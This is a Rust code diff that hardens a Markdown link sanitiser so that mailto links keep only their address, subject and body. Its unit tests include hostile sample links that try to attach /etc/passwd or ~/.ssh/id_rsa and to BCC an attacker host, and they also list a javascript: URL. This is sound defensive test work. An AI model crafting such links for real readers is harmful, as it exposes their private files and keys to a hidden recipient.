@@ -51,8 +51,53 @@ fn is_scheme(s: &str) -> bool {
 pub fn link_href(url: &str) -> String {
     match scheme_of(url) {
         None => url.to_owned(),
+        Some(s) if s == "mailto" => mailto_href(url),
         Some(s) if LINK_SCHEMES.contains(&s.as_str()) => url.to_owned(),
         Some(_) => BLOCKED_URL.to_owned(),
+    }
+}
+
+/// `my%20photo.jpg` → `my photo.jpg` (Markdown URLs are percent-encoded; files are not).
+pub fn percent_decode(s: &str) -> String {
+    let bytes = s.as_bytes();
+    let mut out = Vec::with_capacity(bytes.len());
+    let mut i = 0;
+    while i < bytes.len() {
+        if bytes[i] == b'%' && i + 2 < bytes.len() && s.is_char_boundary(i + 3) {
+            if let Ok(v) = u8::from_str_radix(&s[i + 1..i + 3], 16) {
+                out.push(v);
+                i += 3;
+                continue;
+            }
+        }
+        out.push(bytes[i]);
+        i += 1;
+    }
+    String::from_utf8(out).unwrap_or_else(|_| s.to_owned())
+}
+
+/// Header fields a `mailto:` link may fill in; the rest are dropped.
+const MAILTO_FIELDS: [&str; 2] = ["subject", "body"];
+
+/// A `mailto:` link keeps its address, subject and body only: some mail clients honour
+/// `attach=`/`attachment=` (a file from the reader's disk attached to the mail) and
+/// `cc`/`bcc` add recipients the reader does not see in the link's text.
+fn mailto_href(url: &str) -> String {
+    let Some((address, query)) = url.split_once('?') else {
+        return url.to_owned();
+    };
+    let kept: Vec<&str> = query
+        .split('&')
+        .filter(|pair| {
+            let key = pair.split('=').next().unwrap_or("");
+            let key = percent_decode(key).to_ascii_lowercase();
+            MAILTO_FIELDS.contains(&key.trim())
+        })
+        .collect();
+    if kept.is_empty() {
+        address.to_owned()
+    } else {
+        format!("{address}?{}", kept.join("&"))
     }
 }
 
@@ -209,6 +254,15 @@ mod tests {
             "mailto:desk@example.org"
         );
         assert_eq!(link_href("#fn-1"), "#fn-1");
+        // mailto keeps address, subject and body; attachments and hidden recipients go
+        assert_eq!(
+            link_href("mailto:desk@example.org?subject=Tip&attach=/etc/passwd&body=Hi"),
+            "mailto:desk@example.org?subject=Tip&body=Hi"
+        );
+        assert_eq!(
+            link_href("MAILTO:desk@example.org?%61ttachment=~/.ssh/id_rsa&BCC=x@evil.example"),
+            "MAILTO:desk@example.org"
+        );
         assert_eq!(link_href("other-story.md"), "other-story.md");
         for bad in [
             "javascript:alert(1)",
